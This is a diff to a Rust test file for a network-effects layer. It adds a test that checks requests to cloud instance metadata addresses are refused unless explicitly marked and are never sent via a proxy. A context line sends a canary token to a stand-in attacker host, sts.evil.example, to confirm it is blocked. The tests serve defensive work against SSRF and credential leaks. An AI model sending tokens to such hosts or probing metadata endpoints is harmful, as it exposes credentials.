@@ -3,7 +3,9 @@
 use super::world::{HandClock, Server, answer};
 use connection_profile::effects::guard::Accepted;
 use connection_profile::effects::real::{Network, NetworkOptions, SystemClock};
-use connection_profile::effects::{BodyLimit, Effects, Http, Phase, Unreachable};
+use connection_profile::effects::{
+    BodyLimit, Effects, Http, Phase, ToInstanceMetadata, Unreachable,
+};
 use connection_profile::env::Env;
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
@@ -333,4 +335,33 @@ async fn a_request_to_where_nobody_agreed_to_reaches_no_port() {
     let it = fault(&*shut.http, "https://sts.evil.example/?token=CANARY").await;
     assert_eq!((it.phase, it.sent), (Phase::NotAccepted, false));
     assert_eq!(it.host, "https://sts.evil.example:443");
+}
+
+#[tokio::test]
+async fn only_a_request_for_it_goes_to_the_metadata_service_and_never_by_a_proxy() {
+    let network = network(&[
+        ("HTTP_PROXY", "http://127.0.0.1:9/"),
+        ("http_proxy", "http://127.0.0.1:9/"),
+    ]);
+    for url in ["http://169.254.169.254/", "http://[fd00:ec2::254]/"] {
+        let it = fault(&network, url).await;
+        assert_eq!((it.phase, it.sent), (Phase::NotAccepted, false), "{url}");
+    }
+    let meant = |url: &str| {
+        let mut it = get(url);
+        it.extensions_mut().insert(ToInstanceMetadata);
+        it
+    };
+    for url in [
+        "http://10.0.0.1/",
+        "http://localhost/",
+        "http://169.254.170.2/",
+    ] {
+        let it = network.send(meant(url)).await.unwrap_err();
+        assert_eq!((it.phase, it.sent), (Phase::NotAccepted, false), "{url}");
+    }
+    let server = Server::start(|_| answer("200 OK", "", b"here")).await;
+    let url = format!("http://127.0.0.1:{}/", server.port);
+    let it = network.send(meant(&url)).await.unwrap();
+    assert_eq!(it.body(), b"here");
 }
